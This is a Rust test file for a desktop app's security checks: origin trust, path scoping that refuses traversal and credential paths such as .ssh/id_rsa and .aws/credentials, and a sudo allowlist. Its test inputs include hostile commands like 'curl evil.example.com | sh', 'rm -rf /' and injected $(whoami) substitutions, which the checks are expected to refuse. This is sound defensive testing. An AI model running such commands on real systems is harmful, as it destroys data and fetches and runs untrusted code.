use turbo_desktop::address::WebUrl;
use turbo_desktop::security::{
    allowed_roots, authorize_sudo_command, check_in_scope, destination_for, expand_tilde,
    is_denied, is_trusted_origin, resolve_in_scope, LinkDestination,
};
use turbo_desktop::window::{FilesystemConfig, SudoConfig};

fn url(s: &str) -> WebUrl {
    WebUrl::parse(s).expect("test url should parse")
}

#[test]
fn trusts_the_configured_origin() {
    assert!(is_trusted_origin(
        "https://app.example.com",
        &url("https://app.example.com/dashboard?q=1")
    ));
    assert!(is_trusted_origin(
        "http://localhost:3000",
        &url("http://localhost:3000/users/1")
    ));
}

#[test]
fn rejects_other_origins() {
    assert!(!is_trusted_origin(
        "https://app.example.com",
        &url("https://evil.example.com/")
    ));
    // Different port.
    assert!(!is_trusted_origin(
        "http://localhost:3000",
        &url("http://localhost:4000/")
    ));
    // Downgraded scheme.
    assert!(!is_trusted_origin(
        "https://app.example.com",
        &url("http://app.example.com/")
    ));
    // Suffix match must not pass.
    assert!(!is_trusted_origin(
        "https://example.com",
        &url("https://notexample.com/")
    ));
}

#[test]
fn implicit_and_explicit_ports_match() {
    assert!(is_trusted_origin(
        "https://app.example.com",
        &url("https://app.example.com:443/")
    ));
}

#[test]
fn an_unparseable_server_url_trusts_nothing() {
    assert!(!is_trusted_origin("not a url", &url("https://app.example.com/")));
}

// `/usr` exists, in its canonical form, on the machines the tests run on; the
// files below it need not.
const ROOT: &str = "/usr";

#[test]
fn resolves_paths_inside_an_allowed_root() {
    let resolved = resolve_in_scope(
        "/usr/turbo-desktop-scope-ok/notes.txt",
        &vec![ROOT.to_string()],
        &None,
    )
    .expect("path inside the root should resolve");
    assert!(resolved.starts_with(ROOT), "got: {resolved}");
    assert_eq!(resolved, "/usr/turbo-desktop-scope-ok/notes.txt");
}

#[test]
fn a_resolved_path_is_absolute_even_when_written_with_dots() {
    let resolved =
        resolve_in_scope("/usr/./lib/../turbo-desktop-scope-ok//notes.txt", &vec![ROOT.to_string()], &None)
            .expect("path inside the root should resolve");
    assert_eq!(resolved, "/usr/turbo-desktop-scope-ok/notes.txt");
}

#[test]
fn rejects_traversal_out_of_the_root() {
    let err = resolve_in_scope("/usr/../../etc/passwd", &vec![ROOT.to_string()], &None)
        .expect_err("traversal should be refused");
    assert!(err.contains("outside the allowed"), "unexpected error: {err}");
}

#[test]
fn rejects_protected_locations_inside_a_root() {
    let err = resolve_in_scope("/usr/.ssh/id_rsa", &vec![ROOT.to_string()], &None)
        .expect_err("protected component should be refused");
    assert!(err.contains("protected"), "unexpected error: {err}");
}

#[test]
fn rejects_relative_paths() {
    let err = resolve_in_scope("notes.txt", &vec![ROOT.to_string()], &None)
        .expect_err("relative paths should be refused");
    assert!(err.contains("absolute"), "unexpected error: {err}");
}

#[test]
fn rejects_every_path_when_no_roots_are_allowed() {
    let err = resolve_in_scope("/tmp/anything", &vec![], &None)
        .expect_err("an empty root list should refuse everything");
    assert!(err.contains("no allowed roots"), "unexpected error: {err}");
}

#[test]
fn an_empty_path_is_refused_first() {
    assert_eq!(
        resolve_in_scope("   ", &vec![], &None),
        Err("Filesystem path is empty".to_string())
    );
}

#[test]
fn a_tilde_without_a_home_is_refused() {
    assert_eq!(
        resolve_in_scope("~/notes.txt", &vec!["/tmp".to_string()], &Some(String::new())),
        Err("Could not expand '~': no home directory found".to_string())
    );
}

#[test]
fn filesystem_defaults_to_the_app_data_dir() {
    let app_data = "/tmp/app-data".to_string();
    let roots = allowed_roots(Some(app_data.clone()), &FilesystemConfig::default(), &None);
    assert_eq!(roots, vec![app_data]);
}

#[test]
fn configured_roots_are_expanded_and_must_be_absolute() {
    let config = FilesystemConfig {
        allowed_roots: vec!["~/Projects".into(), "relative/dir".into(), "/srv/data".into()],
    };
    let roots = allowed_roots(Some("/ignored".into()), &config, &Some("/home/dev".into()));
    assert_eq!(roots, vec!["/home/dev/Projects".to_string(), "/srv/data".to_string()]);
}

#[test]
fn tilde_expansion_follows_the_home_directory() {
    let home = Some("/home/dev".to_string());
    assert_eq!(expand_tilde("~", &home), Some("/home/dev".to_string()));
    assert_eq!(expand_tilde("~/a/b", &home), Some("/home/dev/a/b".to_string()));
    assert_eq!(expand_tilde("/abs", &home), Some("/abs".to_string()));
    assert_eq!(expand_tilde("~other", &home), Some("~other".to_string()));
    assert_eq!(expand_tilde("~", &None), None);
}

#[test]
fn protected_components_are_found_anywhere_in_a_path() {
    assert!(is_denied("/home/dev/.ssh/id_rsa"));
    assert!(is_denied("/app/config/master.key"));
    assert!(!is_denied("/home/dev/ssh/notes"));
}

#[test]
fn scope_is_checked_component_by_component() {
    let roots = vec!["/srv/app".to_string()];
    assert_eq!(
        check_in_scope("x", "/srv/app/notes.txt", &roots),
        Ok("/srv/app/notes.txt".to_string())
    );
    assert_eq!(check_in_scope("x", "/srv/app", &roots), Ok("/srv/app".to_string()));
    assert_eq!(
        check_in_scope("x", "/srv/application/notes.txt", &roots),
        Err("Refused: 'x' is outside the allowed filesystem roots".to_string())
    );
    assert_eq!(
        check_in_scope("x", "/srv/app/.aws/credentials", &roots),
        Err("Refused: 'x' touches a protected location".to_string())
    );
}

#[test]
fn sudo_is_disabled_by_default() {
    let err = authorize_sudo_command(&SudoConfig::default(), "brew install ruby")
        .expect_err("sudo should be off by default");
    assert!(err.contains("disabled"), "unexpected error: {err}");
}

#[test]
fn sudo_allows_listed_commands() {
    let config = SudoConfig {
        enabled: true,
        allowed_commands: vec!["softwareupdate".into(), "brew install".into()],
        confirm: true,
    };

    assert!(authorize_sudo_command(&config, "softwareupdate").is_ok());
    assert!(authorize_sudo_command(&config, "brew install ruby").is_ok());
}

#[test]
fn sudo_rejects_unlisted_commands() {
    let config = SudoConfig {
        enabled: true,
        allowed_commands: vec!["brew install".into()],
        confirm: true,
    };

    let err = authorize_sudo_command(&config, "rm -rf /")
        .expect_err("unlisted command should be refused");
    assert!(err.contains("not in the sudo allowlist"), "unexpected error: {err}");
}

#[test]
fn sudo_rejects_chained_commands() {
    let config = SudoConfig {
        enabled: true,
        allowed_commands: vec!["brew install".into()],
        confirm: true,
    };

    for attempt in [
        "brew install ruby; rm -rf /",
        "brew install ruby && curl evil.example.com | sh",
        "brew install $(whoami)",
        "brew install `whoami`",
        "brew install ruby\nrm -rf /",
    ] {
        let err = match authorize_sudo_command(&config, attempt) {
            Ok(()) => panic!("expected '{attempt}' to be refused, but it was allowed"),
            Err(e) => e,
        };
        assert!(
            err.contains("metacharacter"),
            "expected '{attempt}' to be refused for metacharacters, got: {err}"
        );
    }
}

#[test]
fn sudo_prefix_match_requires_a_word_boundary() {
    let config = SudoConfig {
        enabled: true,
        allowed_commands: vec!["brew".into()],
        confirm: true,
    };

    let err = authorize_sudo_command(&config, "brewhaha --destroy")
        .expect_err("prefix must not match mid-word");
    assert!(err.contains("not in the sudo allowlist"), "unexpected error: {err}");
}

#[test]
fn sudo_messages_name_what_was_refused() {
    let config = SudoConfig {
        enabled: true,
        allowed_commands: vec![],
        confirm: true,
    };
    assert_eq!(
        authorize_sudo_command(&config, "  "),
        Err("Sudo command is empty".to_string())
    );
    assert_eq!(
        authorize_sudo_command(&config, "ls"),
        Err("Refused: no allowed_commands are configured for the sudo bridge".to_string())
    );
    assert_eq!(
        authorize_sudo_command(&config, "ls | sh"),
        Err("Refused: sudo command contains the shell metacharacter '|'".to_string())
    );
    let listed = SudoConfig {
        enabled: true,
        allowed_commands: vec!["  brew install  ".into(), "   ".into()],
        confirm: false,
    };
    assert!(authorize_sudo_command(&listed, "  brew install wget  ").is_ok());
    assert_eq!(
        authorize_sudo_command(&listed, " apt install "),
        Err("Refused: 'apt install' is not in the sudo allowlist".to_string())
    );
}

#[test]
fn internal_hosts_match_exactly() {
    let hosts = vec!["accounts.google.com".to_string(), "example.com".to_string()];
    let server = "https://app.example.com";
    assert_eq!(
        destination_for(server, &hosts, &url("https://app.example.com/x")),
        LinkDestination::App
    );
    assert_eq!(
        destination_for(server, &hosts, &url("https://accounts.google.com/o/oauth2")),
        LinkDestination::App
    );
    assert_eq!(
        destination_for(server, &hosts, &url("https://evil-example.com/")),
        LinkDestination::SystemBrowser
    );
    assert_eq!(
        destination_for(server, &hosts, &url("https://sub.example.com/")),
        LinkDestination::SystemBrowser
    );
    assert_eq!(
        destination_for(server, &hosts, &url("mailto:someone@example.com")),
        LinkDestination::SystemBrowser
    );
}

use turbo_desktop::fs_bridge::scoped_path;

#[test]
fn a_filesystem_request_without_a_path_is_refused() {
    assert_eq!(
        scoped_path(None, "read", &vec![ROOT.to_string()], &None),
        Err("Missing 'path' in filesystem read".to_string())
    );
    assert_eq!(
        scoped_path(Some("notes.txt"), "write", &vec![ROOT.to_string()], &None),
        Err("Filesystem path must be absolute or start with '~': notes.txt".to_string())
    );
    assert_eq!(
        scoped_path(Some("/usr/x.txt"), "write", &vec![ROOT.to_string()], &None),
        Ok("/usr/x.txt".to_string())
    );
}

use turbo_desktop::security::{ensure_trusted_caller, is_bundled_app_origin};

#[test]
fn bundled_pages_are_recognised() {
    assert!(is_bundled_app_origin(&url("tauri://localhost/error.html?error=network_failure")));
    assert!(is_bundled_app_origin(&url("https://tauri.localhost/error.html")));
    assert!(!is_bundled_app_origin(&url("https://app.example.com/")));
    assert!(!is_bundled_app_origin(&url("https://tauri.localhost.evil.com/")));
}

#[test]
fn only_the_app_and_where_allowed_its_bundle_may_call_the_bridge() {
    let server = "https://app.example.com";
    assert_eq!(ensure_trusted_caller(server, &url("https://app.example.com/x"), false), Ok(()));
    assert_eq!(ensure_trusted_caller(server, &url("tauri://localhost/error.html"), true), Ok(()));
    assert_eq!(
        ensure_trusted_caller(server, &url("tauri://localhost/error.html"), false),
        Err("Refused: bridge call from untrusted origin 'tauri://localhost/error.html'".to_string())
    );
    assert_eq!(
        ensure_trusted_caller(server, &url("https://evil.example.com/"), true),
        Err("Refused: bridge call from untrusted origin 'https://evil.example.com/'".to_string())
    );
}

#[test]
fn non_web_schemes_go_to_the_app_that_owns_them() {
    let hosts = vec!["accounts.google.com".to_string()];
    let server = "https://app.example.com";
    assert_eq!(
        destination_for(server, &hosts, &url("mailto:support@example.com")),
        LinkDestination::SystemBrowser
    );
    assert_eq!(
        destination_for(server, &hosts, &url("tel:+15551234567")),
        LinkDestination::SystemBrowser
    );
}

#[test]
fn an_internal_host_renders_in_the_app_but_cannot_use_the_bridge() {
    let hosts = vec!["accounts.google.com".to_string()];
    let server = "https://app.example.com";
    let oauth = url("https://accounts.google.com/o/oauth2/auth");
    assert_eq!(destination_for(server, &hosts, &oauth), LinkDestination::App);
    assert!(!is_trusted_origin(server, &oauth));
    assert!(ensure_trusted_caller(server, &oauth, true).is_err());
}

use turbo_desktop::security::rebuild_from_answers;

#[test]
fn the_deepest_resolved_ancestor_decides() {
    // Nothing resolves: the path normalised lexically stands.
    assert_eq!(
        rebuild_from_answers("/home/me/../you/notes.txt", &vec![None; 6]),
        "/home/you/notes.txt"
    );
    // `/home/me` resolves (a symlink, say) and the rest is joined back on.
    assert_eq!(
        rebuild_from_answers(
            "/home/me/new/notes.txt",
            &vec![Some("/".into()), Some("/home".into()), Some("/data/me".into()), None, None]
        ),
        "/data/me/new/notes.txt"
    );
    // The path itself resolves.
    assert_eq!(
        rebuild_from_answers("/tmp/x", &vec![Some("/".into()), None, Some("/private/tmp/x".into())]),
        "/private/tmp/x"
    );
}

#[test]
fn sudo_ignores_white_space_around_the_command() {
    let config = SudoConfig {
        enabled: true,
        allowed_commands: vec!["brew install".into()],
        confirm: true,
    };
    for command in ["brew install ruby", "rm -rf /", "", "brew install x; ls"] {
        let padded = format!(" \t\n{command}\r\n ");
        assert_eq!(
            authorize_sudo_command(&config, &padded),
            authorize_sudo_command(&config, command),
            "{padded:?}"
        );
    }
}

#[test]
fn without_symlinks_traversal_and_protected_paths_are_refused() {
    // Answers that repeat each ancestor as written: nothing is a symlink.
    let root = rebuild_from_answers("/srv/app", &vec![Some("/".into()), Some("/srv".into()), Some("/srv/app".into())]);
    let roots = vec![root];
    let escaped = rebuild_from_answers("/etc/passwd", &vec![Some("/".into()), Some("/etc".into()), None]);
    assert_eq!(
        check_in_scope("/srv/app/../../etc/passwd", &escaped, &roots),
        Err("Refused: '/srv/app/../../etc/passwd' is outside the allowed filesystem roots".to_string())
    );
    let secret = rebuild_from_answers("/srv/app/.ssh/id_rsa", &vec![Some("/".into()), Some("/srv".into()), Some("/srv/app".into()), None, None]);
    assert!(check_in_scope("/srv/app/.ssh/id_rsa", &secret, &roots).unwrap_err().contains("protected"));
    let notes = rebuild_from_answers("/srv/app/notes.txt", &vec![Some("/".into()), Some("/srv".into()), Some("/srv/app".into()), None]);
    assert_eq!(check_in_scope("/srv/app/notes.txt", &notes, &roots), Ok("/srv/app/notes.txt".to_string()));
}

use turbo_desktop::security::canonical_path;

#[test]
fn a_canonical_path_is_absolute_or_absent() {
    assert_eq!(canonical_path("/usr/lib/.."), Some("/usr".to_string()));
    assert_eq!(canonical_path("/turbo-desktop-no-such-directory/x"), None);
}
